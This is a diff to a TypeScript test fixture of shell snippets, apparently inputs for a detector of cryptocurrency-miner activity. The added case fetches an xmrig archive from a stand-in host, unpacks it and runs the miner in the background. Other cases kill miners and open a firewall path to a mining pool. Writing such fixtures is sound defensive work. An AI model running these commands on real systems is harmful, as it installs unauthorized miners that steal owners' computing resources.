@@ -53,6 +53,11 @@ export const fixture: ExtractorFixture = {
     { name: 'a miner of an article', kind: 'document', input: 'pkill -f xmrig\n' },
     { name: 'a message that names the command', kind: 'script', input: 'echo "run pkill -f xmrig to stop it"\n' },
     { name: 'a file of a miner that is unpacked', kind: 'script', input: 'tar xf xmrig.tar.gz && rm -f /tmp/list\n' },
+    {
+      name: 'a miner that the script sets up anew',
+      kind: 'script',
+      input: 'killall xmrig\nwget http://h.example/xmrig.tar.gz\ntar xf xmrig.tar.gz\nrm xmrig.tar.gz\n./xmrig &\n',
+    },
     { name: 'an open firewall', kind: 'script', input: 'iptables -A OUTPUT -d xmr.nanopool.org -j ACCEPT\n' },
   ],
 };
